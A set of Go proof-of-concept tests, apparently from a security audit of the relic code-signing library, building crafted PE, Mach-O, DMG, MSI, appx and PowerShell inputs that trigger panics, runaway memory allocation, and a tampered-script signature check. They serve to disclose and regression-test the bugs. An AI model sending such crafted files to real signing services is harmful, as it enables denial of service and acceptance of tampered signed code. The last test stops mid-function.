	pool.AddCert(cert)
	return &certloader.Certificate{Leaf: cert, Certificates: []*x509.Certificate{cert}, PrivateKey: key}, pool
}

func pocVerifyPs(script []byte, roots *x509.CertPool) error {
	sig, err := VerifyPowershell(bytes.NewReader(script), SigStyleHash, false)
	if err != nil {
		return err
	}
	return sig.VerifyChain(roots, nil, x509.ExtKeyUsageCodeSigning)
}


func pocSignPs(t *testing.T, script []byte, cert *certloader.Certificate) []byte {
	t.Helper()
	digest, err := DigestPowershell(bytes.NewReader(script), SigStyleHash, crypto.SHA256)
	if err != nil {
		t.Fatal(err)
	}
	patch, _, err := digest.Sign(context.Background(), cert, nil)
	if err != nil {
		t.Fatal(err)
	}
	ph := patch.Patches[0]
	var signed []byte
	signed = append(signed, script[:ph.Offset]...)
	signed = append(signed, patch.Blobs[0]...)
	signed = append(signed, script[ph.Offset+int64(ph.OldSize):]...)
	return signed
}

func TestPowershellCharacterAppendedBeforeBlock(t *testing.T) {
	cert, roots := pocPsSigner(t)
	script := []byte("param([string]$Dir)\r\nRemove-Item -Recurse $Dir/cache\r\n")
	signed := pocSignPs(t, script, cert)
	if err := pocVerifyPs(signed, roots); err != nil {
		t.Fatalf("control: signed script does not verify: %v", err)
	}
	marker := []byte("\r\n# SIG # Begin signature block\r\n")
	i := bytes.Index(signed, marker)
	if i < 0 {
		t.Fatal("signature block not found")
	}
	// "...$Dir/cache\r\n\r\n# SIG" -> the CRLF directly in front of the marker becomes "*\n"
	var tampered []byte
	tampered = append(tampered, signed[:i]...)
	tampered = append(tampered, "*\n# SIG # Begin signature block\r\n"...)
	tampered = append(tampered, signed[i+len(marker):]...)
	if bytes.Equal(tampered, signed) {
		t.Fatal("nothing changed")
	}
	if err := pocVerifyPs(tampered, roots); err == nil {
		t.Errorf("a script whose signed text was changed (a character appended in front of the signature block) verified")
	}
}

func TestPowershellMarkerOnFirstLine(t *testing.T) {
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("DigestPowershell panicked on a file that begins with the marker line: %v", r)
		}
	}()
	_, _ = DigestPowershell(bytes.NewReader([]byte("# SIG # Begin signature block\r\n# AAAA\r\n# SIG # End signature block\r\n")), SigStyleHash, crypto.SHA256)
}
