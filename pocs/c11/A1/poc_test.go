package binpatch_test

// PoC A1: binpatch.Load allocates from NumPatches / NewSize without comparing
// them with the amount of data that is actually present in the blob.
//
// Copy into lib/binpatch/ and run:
//   go test -vet=off -count=1 -timeout 60s -run TestPocA1 ./lib/binpatch/

import (
	"bytes"
	"encoding/binary"
	"runtime"
	"runtime/debug"
	"testing"

	"github.com/sassoftware/relic/v8/lib/binpatch"
)

const pocA1Limit = 256 << 20

func pocA1Measure(t *testing.T, blob []byte) (delta uint64, err error) {
	t.Helper()
	defer debug.FreeOSMemory()
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	_, err = binpatch.Load(blob)
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc, err
}

// 8-byte input: version=1, NumPatches=0x800000. No patch headers follow.
func TestPocA1NumPatches(t *testing.T) {
	var b bytes.Buffer
	_ = binary.Write(&b, binary.BigEndian, uint32(1))        // Version
	_ = binary.Write(&b, binary.BigEndian, uint32(0x800000)) // NumPatches (8Mi)
	blob := b.Bytes()
	delta, err := pocA1Measure(t, blob)
	t.Logf("input %d bytes, TotalAlloc delta %d MiB, Load err=%v", len(blob), delta>>20, err)
	if delta > pocA1Limit {
		t.Fatalf("binpatch.Load allocated %d MiB for a %d-byte input", delta>>20, len(blob))
	}
}

// 24-byte input: version=1, NumPatches=1, one patch header with
// NewSize=0x20000000 (512 MiB), no blob data.
func TestPocA1NewSize(t *testing.T) {
	var b bytes.Buffer
	_ = binary.Write(&b, binary.BigEndian, uint32(1))          // Version
	_ = binary.Write(&b, binary.BigEndian, uint32(1))          // NumPatches
	_ = binary.Write(&b, binary.BigEndian, int64(0))           // Offset
	_ = binary.Write(&b, binary.BigEndian, uint32(0))          // OldSize
	_ = binary.Write(&b, binary.BigEndian, uint32(0x20000000)) // NewSize
	blob := b.Bytes()
	delta, err := pocA1Measure(t, blob)
	t.Logf("input %d bytes, TotalAlloc delta %d MiB, Load err=%v", len(blob), delta>>20, err)
	if delta > pocA1Limit {
		t.Fatalf("binpatch.Load allocated %d MiB for a %d-byte input", delta>>20, len(blob))
	}
}
