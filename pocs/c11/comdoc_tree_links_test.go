package comdoc

import (
	"bytes"
	"encoding/binary"
	"os"
	"testing"
	"unicode/utf16"
)

func rootEntryOffset(t *testing.T, blob []byte) int {
	var pat []byte
	for _, r := range utf16.Encode([]rune("Root Entry")) {
		pat = append(pat, byte(r), byte(r>>8))
	}
	i := bytes.Index(blob, pat)
	if i < 0 {
		t.Fatal("no root entry")
	}
	return i
}

func openPatched(t *testing.T, patch func(blob []byte, root int)) (err error) {
	blob, e := os.ReadFile("../../functest/packages/dummy.msi")
	if e != nil {
		t.Fatal(e)
	}
	patch(blob, rootEntryOffset(t, blob))
	tmp := t.TempDir() + "/x.msi"
	if e := os.WriteFile(tmp, blob, 0644); e != nil {
		t.Fatal(e)
	}
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("PANIC: %v", r)
		}
	}()
	cdf, err := ReadPath(tmp)
	if err == nil {
		cdf.Close()
	}
	return err
}

func TestPocStorageRootOutOfRange(t *testing.T) {
	err := openPatched(t, func(blob []byte, root int) {
		binary.LittleEndian.PutUint32(blob[root+76:], 0x7ffffff0)
	})
	t.Logf("err=%v", err)
}

func TestPocStorageRootEmpty(t *testing.T) {
	err := openPatched(t, func(blob []byte, root int) {
		binary.LittleEndian.PutUint32(blob[root+76:], 0xffffffff)
	})
	t.Logf("err=%v", err)
}

func TestPocChildCycle(t *testing.T) {
	if os.Getenv("POC_CYCLE") == "" {
		t.Skip("set POC_CYCLE=1: grows memory without bound")
	}
	err := openPatched(t, func(blob []byte, root int) {
		child := int(binary.LittleEndian.Uint32(blob[root+76:]))
		// entries are 128 bytes and the root is entry 0 of the directory stream's first sector
		ent := root + 128*child
		binary.LittleEndian.PutUint32(blob[ent+68:], uint32(child)) // LeftChild = itself
	})
	t.Logf("err=%v", err)
}
