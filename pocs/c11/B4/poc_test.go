package machos

// PoC B4: scanFile (lib/fruit/machos/header.go:84) does
//     dat := make([]byte, f.Cmdsz)
// with Cmdsz taken verbatim from the Mach-O file header, before a single byte
// of the load-command area has been read.
//
// Copy into lib/fruit/machos/ and run:
//   go test -vet=off -count=1 -timeout 60s -run 'TestPocB4' ./lib/fruit/machos/

import (
	"bytes"
	"context"
	"crypto"
	"encoding/binary"
	"runtime"
	"runtime/debug"
	"testing"

	"github.com/sassoftware/relic/v8/lib/fruit/csblob"
)

func TestPocB4_Cmdsz(t *testing.T) {
	// A bare 28-byte 32-bit little-endian Mach-O header, nothing after it.
	hdr := []uint32{
		0xfeedface, // MH_MAGIC
		7,          // cputype i386
		3,          // cpusubtype
		2,          // MH_EXECUTE
		1,          // ncmds
		0x20000000, // sizeofcmds = 512 MiB
		0,          // flags
	}
	var b bytes.Buffer
	_ = binary.Write(&b, binary.LittleEndian, hdr)
	input := b.Bytes()

	const limit = 256 << 20
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	// exported entry point; it fails inside scanFile, so cert is never touched
	_, _, err := Sign(context.Background(), bytes.NewReader(input), nil, &csblob.SignatureParams{HashFunc: crypto.SHA256})
	runtime.ReadMemStats(&after)
	debug.FreeOSMemory()
	delta := after.TotalAlloc - before.TotalAlloc
	t.Logf("input %d bytes, Sign err=%v, TotalAlloc delta=%d bytes (%d MiB)", len(input), err, delta, delta>>20)
	if delta > limit {
		t.Fatalf("machos.Sign allocated %d MiB while scanning a %d-byte input", delta>>20, len(input))
	}
}
