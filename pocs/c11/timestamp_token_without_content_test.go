package pkcs9

import (
	"crypto/x509/pkix"
	"encoding/asn1"
	"math/big"
	"testing"

	"github.com/sassoftware/relic/v8/lib/pkcs7"
)

// A timestamp token whose SignedData carries no content at all, or an empty OCTET STRING:
// what a crafted counter-signature inside a file handed to `relic verify` looks like.
func TestPocTokenWithoutContent(t *testing.T) {
	for name, data := range map[string]interface{}{"omitted": nil, "empty octet string": []byte{}} {
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Errorf("%s: PANIC: %v", name, r)
				}
			}()
			ci, err := pkcs7.NewContentInfo(OidTSTInfo, data)
			if err != nil {
				t.Fatal(err)
			}
			// round-trip through DER, as a parsed token would be
			blob, err := asn1.Marshal(pkcs7.ContentInfoSignedData{
				ContentType: pkcs7.OidSignedData,
				Content: pkcs7.SignedData{Version: 3, ContentInfo: ci, SignerInfos: []pkcs7.SignerInfo{{Version: 1,
					IssuerAndSerialNumber:     pkcs7.IssuerAndSerial{IssuerName: asn1.RawValue{FullBytes: []byte{0x30, 0x00}}, SerialNumber: big.NewInt(1)},
					DigestAlgorithm:           pkix.AlgorithmIdentifier{Algorithm: asn1.ObjectIdentifier{2, 16, 840, 1, 101, 3, 4, 2, 1}},
					DigestEncryptionAlgorithm: pkix.AlgorithmIdentifier{Algorithm: asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 1, 1}},
					EncryptedDigest:           []byte{1}}}},
			})
			if err != nil {
				t.Fatal(err)
			}
			var tst pkcs7.ContentInfoSignedData
			if _, err := asn1.Unmarshal(blob, &tst); err != nil {
				t.Fatal(err)
			}
			_, err = Verify(&tst, []byte("signature value"), nil)
			t.Logf("%s: err=%v", name, err)
		}()
	}
}
