package authenticode_test

// PoC A3: setupDigester reserves pages*(4+hash.Size()) bytes where "pages" is
// the sum of SizeOfRawData/pageSize over the section table; none of the
// SizeOfRawData values is compared with the real amount of data.
//
// Copy into lib/authenticode/ and run:
//   go test -vet=off -count=1 -timeout 60s -run TestPocA3 ./lib/authenticode/

import (
	"bytes"
	"crypto"
	_ "crypto/sha256"
	"debug/pe"
	"encoding/binary"
	"runtime"
	"runtime/debug"
	"testing"

	"github.com/sassoftware/relic/v8/lib/authenticode"
)

func pocA3BuildPE(fileAlign uint32, sections []pe.SectionHeader32) []byte {
	var b bytes.Buffer
	dos := make([]byte, 64)
	dos[0], dos[1] = 'M', 'Z'
	binary.LittleEndian.PutUint32(dos[0x3c:], 64) // e_lfanew
	b.Write(dos)
	b.WriteString("PE\x00\x00")
	fh := pe.FileHeader{
		Machine:              pe.IMAGE_FILE_MACHINE_I386,
		NumberOfSections:     uint16(len(sections)),
		SizeOfOptionalHeader: 224,
		Characteristics:      0x0102,
	}
	_ = binary.Write(&b, binary.LittleEndian, fh)
	opt := pe.OptionalHeader32{
		Magic:               0x10b,
		SectionAlignment:    0x1000,
		FileAlignment:       fileAlign,
		SizeOfHeaders:       uint32(64 + 24 + 224 + 40*len(sections)),
		NumberOfRvaAndSizes: 16,
	}
	_ = binary.Write(&b, binary.LittleEndian, opt)
	_ = binary.Write(&b, binary.LittleEndian, sections)
	return b.Bytes()
}

func TestPocA3PageHashReserve(t *testing.T) {
	// 14 section headers, each claiming 0xFFFFF000 bytes of raw data that
	// start right after the section table. No section data is present.
	const nsec = 14
	secTblEnd := uint32(64 + 24 + 224 + 40*nsec)
	sections := make([]pe.SectionHeader32, nsec)
	for i := range sections {
		copy(sections[i].Name[:], ".text")
		sections[i].SizeOfRawData = 0xFFFFF000
		sections[i].PointerToRawData = secTblEnd
	}
	img := pocA3BuildPE(0x200, sections)
	defer debug.FreeOSMemory()
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	_, err := authenticode.DigestPE(bytes.NewReader(img), crypto.SHA256, true)
	runtime.ReadMemStats(&after)
	delta := after.TotalAlloc - before.TotalAlloc
	t.Logf("input %d bytes, TotalAlloc delta %d MiB, DigestPE err=%v", len(img), delta>>20, err)
	if delta > 256<<20 {
		t.Fatalf("DigestPE allocated %d MiB for a %d-byte input", delta>>20, len(img))
	}
}
