package csblob

import (
	"encoding/binary"
	"testing"
)

func superBlob(count uint32, index ...uint32) []byte {
	b := make([]byte, 12+4*len(index)+64)
	binary.BigEndian.PutUint32(b[0:], uint32(csEmbeddedSignature))
	binary.BigEndian.PutUint32(b[4:], uint32(len(b)))
	binary.BigEndian.PutUint32(b[8:], count)
	for i, v := range index {
		binary.BigEndian.PutUint32(b[12+4*i:], v)
	}
	return b
}

func try(t *testing.T, name string, blob []byte) {
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("%s: PANIC: %v", name, r)
		}
	}()
	_, err := Verify(blob, VerifyParams{})
	t.Logf("%s: err=%v", name, err)
}

func TestPocSuperBlob(t *testing.T) {
	// one item whose offset points in front of the data area (into the header)
	try(t, "offset inside the header", superBlob(1, 0 /*type*/, 0 /*offset*/))
	// a signature without any code directory
	try(t, "no code directory", superBlob(0))
}
