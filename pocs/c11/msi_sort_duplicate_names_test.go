package authenticode

import (
	"bytes"
	"crypto"
	"os"
	"testing"
	"unicode/utf16"

	"github.com/sassoftware/relic/v8/lib/comdoc"
)

func TestPocDuplicateLongNames(t *testing.T) {
	blob, err := os.ReadFile("../../functest/packages/dummy.msi")
	if err != nil {
		t.Fatal(err)
	}
	var pat []byte
	for _, r := range utf16.Encode([]rune("Root Entry")) {
		pat = append(pat, byte(r), byte(r>>8))
	}
	root := bytes.Index(blob, pat)
	// rename the first two stream entries that follow the root in its sector
	n := 0
	for i := 1; i < 4 && n < 2; i++ {
		ent := blob[root+128*i : root+128*(i+1)]
		if ent[66] != byte(comdoc.DirStream) {
			continue
		}
		for k := 0; k < 64; k += 2 {
			ent[k], ent[k+1] = 'A', 0 // 32 runes, no terminator
		}
		ent[64], ent[65] = 64, 0 // NameLength = 64 bytes
		n++
	}
	if n != 2 {
		t.Skip("layout")
	}
	tmp := t.TempDir() + "/dup.msi"
	os.WriteFile(tmp, blob, 0644)
	cdf, err := comdoc.ReadPath(tmp)
	if err != nil {
		t.Logf("rejected: %v", err)
		return
	}
	defer cdf.Close()
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("PANIC: %v", r)
		}
	}()
	_, _, err = DigestMSI(cdf, crypto.SHA256, false)
	t.Logf("DigestMSI err=%v", err)
}
