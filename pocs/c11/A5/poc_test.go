package signappx_test

// PoC A5: signappx.setupPeDigest runs authenticode.DigestPE in a goroutine
// that has no recover(). A panic inside DigestPE (here: FileAlignment == 0,
// see A4) therefore cannot be caught by any caller - not by a deferred
// recover() around DigestAppxTar, not by net/http's per-request recover - and
// terminates the whole process.
//
// The test re-executes the test binary; the child calls the exported entry
// point signappx.DigestAppxTar on a crafted appx tar *inside a deferred
// recover()*, and the parent checks how the child ended.
//
// Copy into lib/signappx/ and run:
//   go test -vet=off -count=1 -timeout 60s -run TestPocA5 ./lib/signappx/

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"crypto"
	_ "crypto/sha1"
	_ "crypto/sha256"
	"debug/pe"
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"

	"github.com/sassoftware/relic/v8/lib/signappx"
	"github.com/sassoftware/relic/v8/lib/zipslicer"
)

const pocA5ChildEnv = "POC_A5_CHILD"

// PE image with FileAlignment == 0 and two sections (same as A4)
func pocA5BuildPE() []byte {
	const nsec = 2
	secTblEnd := uint32(64 + 24 + 224 + 40*nsec)
	var b bytes.Buffer
	dos := make([]byte, 64)
	dos[0], dos[1] = 'M', 'Z'
	binary.LittleEndian.PutUint32(dos[0x3c:], 64)
	b.Write(dos)
	b.WriteString("PE\x00\x00")
	_ = binary.Write(&b, binary.LittleEndian, pe.FileHeader{
		Machine:              pe.IMAGE_FILE_MACHINE_I386,
		NumberOfSections:     nsec,
		SizeOfOptionalHeader: 224,
		Characteristics:      0x0102,
	})
	_ = binary.Write(&b, binary.LittleEndian, pe.OptionalHeader32{
		Magic:               0x10b,
		SectionAlignment:    0x1000,
		FileAlignment:       0, // <-- divisor
		SizeOfHeaders:       secTblEnd,
		NumberOfRvaAndSizes: 16,
	})
	sections := make([]pe.SectionHeader32, nsec)
	copy(sections[0].Name[:], ".text")
	sections[0].SizeOfRawData = 0x200
	sections[0].PointerToRawData = secTblEnd
	copy(sections[1].Name[:], ".data")
	sections[1].SizeOfRawData = 0x200
	sections[1].PointerToRawData = secTblEnd + 0x200
	_ = binary.Write(&b, binary.LittleEndian, sections)
	// no section data needed: the panic happens while the section table is parsed
	return b.Bytes()
}

// appx "tar" as produced by zipslicer.ZipToTar: member 1 is the zip central
// directory, member 2 the whole zip. The zip has a single stored member a.exe.
func pocA5BuildAppxTar(t testing.TB) []byte {
	var zb bytes.Buffer
	zw := zip.NewWriter(&zb)
	w, err := zw.CreateHeader(&zip.FileHeader{Name: "a.exe", Method: zip.Store})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(pocA5BuildPE()); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	zipBytes := zb.Bytes()
	dirLoc, err := zipslicer.FindDirectory(bytes.NewReader(zipBytes), int64(len(zipBytes)))
	if err != nil {
		t.Fatal(err)
	}
	var tb bytes.Buffer
	tw := tar.NewWriter(&tb)
	add := func(name string, data []byte) {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0644, Size: int64(len(data))}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(data); err != nil {
			t.Fatal(err)
		}
	}
	add(zipslicer.TarMemberCD, zipBytes[dirLoc:])
	add(zipslicer.TarMemberZip, zipBytes)
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return tb.Bytes()
}

func TestPocA5GoroutinePanicKillsProcess(t *testing.T) {
	if os.Getenv(pocA5ChildEnv) == "1" {
		// ---- child ----
		blob := pocA5BuildAppxTar(t)
		func() {
			// what a careful caller (or net/http) would do
			defer func() {
				if r := recover(); r != nil {
					fmt.Fprintf(os.Stderr, "CHILD: recovered: %v\n", r)
				}
			}()
			_, err := signappx.DigestAppxTar(bytes.NewReader(blob), crypto.SHA256, false)
			fmt.Fprintf(os.Stderr, "CHILD: DigestAppxTar returned err=%v\n", err)
		}()
		fmt.Fprintln(os.Stderr, "CHILD: survived")
		os.Exit(0)
	}
	// ---- parent ----
	blob := pocA5BuildAppxTar(t)
	cmd := exec.Command(os.Args[0], "-test.run=^TestPocA5GoroutinePanicKillsProcess$", "-test.count=1")
	cmd.Env = append(os.Environ(), pocA5ChildEnv+"=1")
	out, err := cmd.CombinedOutput()
	text := string(out)
	if len(text) > 1500 {
		text = text[:1500] + "\n...[truncated]"
	}
	t.Logf("appx tar input: %d bytes", len(blob))
	t.Logf("child exit: %v\nchild output:\n%s", err, text)
	if err == nil && strings.Contains(string(out), "CHILD: survived") {
		return // fixed: the panic became an error (or was recovered)
	}
	if strings.Contains(string(out), "panic: runtime error: integer divide by zero") &&
		!strings.Contains(string(out), "CHILD: recovered") {
		t.Fatalf("process was killed by an unrecovered panic in the DigestPE goroutine (child: %v)", err)
	}
	t.Fatalf("unexpected child outcome: %v", err)
}
