package dmg

// PoC for the signed-size extension of R11a: dmg.Open sizes the signature buffer by the trailer's
// SignatureLength, an int64 that was only compared with an upper limit. A trailer that states a
// negative length passes that test and make() panics; Open is what verification and the is-signed
// probe call first for a .dmg. Reported in passing by an independent sub-agent, confirmed here.
// Place in lib/fruit/dmg/ (package dmg).

import (
	"bytes"
	"encoding/binary"
	"os"
	"path/filepath"
	"testing"
)

func TestOpenNegativeSignatureLength(t *testing.T) {
	rsf := udifResourceFile{Signature: udifSignature, Version: 4, HeaderSize: 512}
	rsf.SignatureOffset = 0
	rsf.SignatureLength = -0x7fffffffffffff00
	var b bytes.Buffer
	if err := binary.Write(&b, binary.BigEndian, rsf); err != nil {
		t.Fatal(err)
	}
	if b.Len() != 512 {
		t.Fatalf("trailer is %d bytes", b.Len())
	}
	path := filepath.Join(t.TempDir(), "neg.dmg")
	if err := os.WriteFile(path, append(make([]byte, 1024), b.Bytes()...), 0600); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("dmg.Open panicked on a trailer with a negative signature length: %v", r)
		}
	}()
	if _, err := Open(f); err == nil {
		t.Error("a trailer with a negative signature length was accepted")
	}
}
