package signappx

import (
	"archive/zip"
	"bytes"
	"crypto"
	"io"
	"os"
	"strings"
	"testing"

	"github.com/sassoftware/relic/v8/lib/zipslicer"
)

// An appx whose AppxBlockMap.xml lists one block more for a file than the file has: what the
// server sees when such a package is uploaded for signing.
func TestPocBlockMapExtraBlock(t *testing.T) {
	src, err := os.ReadFile("../../functest/packages/App1_1.0.3.0_x64.appx")
	if err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(src), int64(len(src)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range zr.File {
		rc, _ := f.Open()
		blob, _ := io.ReadAll(rc)
		rc.Close()
		if f.Name == "AppxBlockMap.xml" {
			s := string(blob)
			i := strings.Index(s, "<Block ")
			j := i + strings.Index(s[i:], "/>") + 2
			s = s[:j] + s[i:j] + s[j:] // repeat the first block of the first file
			blob = []byte(s)
		}
		hdr := f.FileHeader
		hdr.CompressedSize64, hdr.UncompressedSize64, hdr.CRC32 = 0, 0, 0
		w, err := zw.CreateHeader(&hdr)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(blob)
	}
	zw.Close()
	var tarball bytes.Buffer
	tmp := t.TempDir() + "/x.appx"
	os.WriteFile(tmp, out.Bytes(), 0644)
	zf, err := os.Open(tmp)
	if err != nil {
		t.Fatal(err)
	}
	defer zf.Close()
	if err := zipslicer.ZipToTar(zf, &tarball); err != nil {
		t.Fatal(err)
	}
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("PANIC: %v", r)
		}
	}()
	_, err = DigestAppxTar(&tarball, crypto.SHA256, false)
	t.Logf("err=%v", err)
}
