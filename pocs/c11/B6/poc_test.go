package csblob

// PoC B6: parseCodeDirectory (lib/fruit/csblob/codedir.go:142) does
//     dir.CodeHashes = make([][]byte, hdr.CodeSlotCount)
// with the 32-bit CodeSlotCount from the code directory header (24 bytes per
// element), and the loop that follows (codedir.go:143-145, closure at :133)
// slices blob[HashOffset+i*HashSize : ...] without checking that the slots lie
// inside the blob.
//
// Copy into lib/fruit/csblob/ and run:
//   go test -vet=off -count=1 -timeout 60s -run 'TestPocB6' ./lib/fruit/csblob/

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"runtime"
	"runtime/debug"
	"testing"
)

// b6Blob returns an embedded-signature superblob (magic 0xfade0cc0) holding a
// single code directory (slot type 0) with one real SHA-256 hash slot, and the
// given CodeSlotCount in its header. 140 bytes in total.
func b6Blob(codeSlotCount uint32) []byte {
	hdr := CodeDirectoryHeader{
		Magic:         csCodeDirectory,
		Version:       0x20400,
		CodeSlotCount: codeSlotCount,
		CodeLimit:     4096,
		HashSize:      32,
		HashType:      HashSHA256,
		PageSizeLog2:  12,
	}
	hdrSize := binary.Size(hdr) // 88
	hdr.HashOffset = uint32(hdrSize)
	hdr.Length = uint32(hdrSize + 32)
	var cd bytes.Buffer
	_ = binary.Write(&cd, binary.BigEndian, hdr)
	cd.Write(bytes.Repeat([]byte{0xaa}, 32)) // the one and only hash slot

	var b bytes.Buffer
	_ = binary.Write(&b, binary.BigEndian, []uint32{
		uint32(csEmbeddedSignature),
		uint32(12 + 8 + cd.Len()), // total length
		1,                         // one index entry
		cdCodeDirectorySlot, 20,   // type 0 at offset 20
	})
	b.Write(cd.Bytes())
	out := b.Bytes()
	return out[:len(out):len(out)] // clip spare buffer capacity
}

// CodeSlotCount = 16Mi  ->  make([][]byte, 16Mi) = 384 MiB, requested for a
// 140-byte blob through the exported csblob.Verify. The fill loop then runs
// off the end of the blob and panics as well.
func TestPocB6_CodeSlotCountAlloc(t *testing.T) {
	input := b6Blob(16 << 20)
	const limit = 256 << 20
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	var err error
	func() {
		defer func() {
			if r := recover(); r != nil {
				err = fmt.Errorf("PANIC: %v", r)
			}
		}()
		_, err = Verify(input, VerifyParams{})
	}()
	runtime.ReadMemStats(&after)
	debug.FreeOSMemory()
	delta := after.TotalAlloc - before.TotalAlloc
	t.Logf("input %d bytes, Verify err=%v, TotalAlloc delta=%d bytes (%d MiB)", len(input), err, delta, delta>>20)
	if delta > limit {
		t.Fatalf("csblob.Verify allocated %d MiB for a %d-byte input (outcome: %v)", delta>>20, len(input), err)
	}
}

// CodeSlotCount = 2 with only one slot present: no big allocation, just the
// out-of-range slice.
func TestPocB6_CodeSlotCountPanic(t *testing.T) {
	input := b6Blob(2)
	defer func() {
		if r := recover(); r != nil {
			t.Fatalf("csblob.Verify panicked on a %d-byte input: %v", len(input), r)
		}
	}()
	_, err := Verify(input, VerifyParams{})
	t.Logf("Verify returned err=%v (no panic)", err)
}

// Control: CodeSlotCount = 1 matches the data; parsing gets past
// parseCodeDirectory and fails later for want of a CMS signature.
func TestPocB6_Control(t *testing.T) {
	_, err := Verify(b6Blob(1), VerifyParams{})
	if err == nil || err.Error() != "signature wrapper not found, possibly an adhoc signature" {
		t.Fatalf("control blob: unexpected result %v", err)
	}
}
