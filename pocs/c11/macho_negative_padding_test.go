package machos

// PoC (C11 R11j): (*machoMarkers).PatchSignature slices its patch buffer at
// padding = sigStart - codeSize (header.go). A LC_CODE_SIGNATURE command with a
// small data offset and a data size of zero, in an image whose __LINKEDIT
// segment ends further out, makes sigStart < codeSize: padding is negative,
// make([]byte, padding+sigSize) is still positive and padded[padding:] panics
// with "slice bounds out of range". Reached from machos.Sign (the Mach-O and
// fat-binary signing path, client and server side) before any key is used.
//
// Copy into lib/fruit/machos/ and run:
//   go test -vet=off -count=1 -run 'TestPocNegativePadding' ./lib/fruit/machos/

import (
	"bytes"
	"context"
	"crypto"
	"encoding/binary"
	"testing"

	"github.com/sassoftware/relic/v8/lib/fruit/csblob"
)

func TestPocNegativePadding(t *testing.T) {
	type seg32 struct {
		Cmd, Len                       uint32
		Name                           [16]byte
		Addr, Memsz, Offset, Filesz    uint32
		Maxprot, Prot, Nsect, SegFlags uint32
	}
	type sigcmd struct{ Cmd, Len, SigOffset, SigLength uint32 }
	le := seg32{Cmd: 1, Len: 56, Offset: 0x1000, Filesz: 0x1000, Memsz: 0x1000}
	copy(le.Name[:], "__LINKEDIT")
	var body bytes.Buffer
	_ = binary.Write(&body, binary.LittleEndian, le)
	_ = binary.Write(&body, binary.LittleEndian, sigcmd{Cmd: 0x1d, Len: 16, SigOffset: 16, SigLength: 0})
	var b bytes.Buffer
	_ = binary.Write(&b, binary.LittleEndian, []uint32{0xfeedface, 7, 3, 2, 2, uint32(body.Len()), 0})
	b.Write(body.Bytes())
	input := b.Bytes()
	defer func() {
		if r := recover(); r != nil {
			t.Fatalf("machos.Sign panicked on a %d-byte input: %v", len(input), r)
		}
	}()
	_, _, err := Sign(context.Background(), bytes.NewReader(input), nil, &csblob.SignatureParams{HashFunc: crypto.SHA256})
	t.Logf("Sign returned err=%v (no panic)", err)
}
