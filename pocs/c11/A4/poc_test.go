package authenticode_test

// PoC A4: readSections calls align32(SizeOfRawData, FileAlignment) and
// FileAlignment == 0 is never rejected -> integer divide by zero.
//
// Copy into lib/authenticode/ and run:
//   go test -vet=off -count=1 -timeout 60s -run TestPocA4 ./lib/authenticode/

import (
	"bytes"
	"crypto"
	_ "crypto/sha256"
	"debug/pe"
	"encoding/binary"
	"testing"

	"github.com/sassoftware/relic/v8/lib/authenticode"
)

func pocA4BuildPE(fileAlign uint32, sections []pe.SectionHeader32) []byte {
	var b bytes.Buffer
	dos := make([]byte, 64)
	dos[0], dos[1] = 'M', 'Z'
	binary.LittleEndian.PutUint32(dos[0x3c:], 64) // e_lfanew
	b.Write(dos)
	b.WriteString("PE\x00\x00")
	fh := pe.FileHeader{
		Machine:              pe.IMAGE_FILE_MACHINE_I386,
		NumberOfSections:     uint16(len(sections)),
		SizeOfOptionalHeader: 224,
		Characteristics:      0x0102,
	}
	_ = binary.Write(&b, binary.LittleEndian, fh)
	opt := pe.OptionalHeader32{
		Magic:               0x10b,
		SectionAlignment:    0x1000,
		FileAlignment:       fileAlign,
		SizeOfHeaders:       uint32(64 + 24 + 224 + 40*len(sections)),
		NumberOfRvaAndSizes: 16,
	}
	_ = binary.Write(&b, binary.LittleEndian, opt)
	_ = binary.Write(&b, binary.LittleEndian, sections)
	return b.Bytes()
}

func TestPocA4FileAlignmentZero(t *testing.T) {
	// two sections (the alignment fix-up is skipped for the last one), the
	// first with a non-zero SizeOfRawData; FileAlignment = 0
	const nsec = 2
	secTblEnd := uint32(64 + 24 + 224 + 40*nsec)
	sections := make([]pe.SectionHeader32, nsec)
	copy(sections[0].Name[:], ".text")
	sections[0].SizeOfRawData = 0x200
	sections[0].PointerToRawData = secTblEnd
	copy(sections[1].Name[:], ".data")
	sections[1].SizeOfRawData = 0x200
	sections[1].PointerToRawData = secTblEnd + 0x200
	img := pocA4BuildPE(0, sections)
	img = append(img, make([]byte, 0x400)...) // the section data is really there

	defer func() {
		if r := recover(); r != nil {
			t.Fatalf("DigestPE panicked on a %d-byte input: %v", len(img), r)
		}
	}()
	_, err := authenticode.DigestPE(bytes.NewReader(img), crypto.SHA256, false)
	t.Logf("no panic; err=%v", err)
}
