package authenticode

import (
	"encoding/asn1"
	"testing"
)

// The page-hash attribute of a PE signature with an empty SET of hashes.
func TestPocEmptyPageHashSet(t *testing.T) {
	// SEQUENCE { OID pagehash-v2, SET {} }
	oid, _ := asn1.Marshal(OidSpcPageHashV2)
	attr := append([]byte{0x30, byte(len(oid) + 2)}, oid...)
	attr = append(attr, 0x31, 0x00)
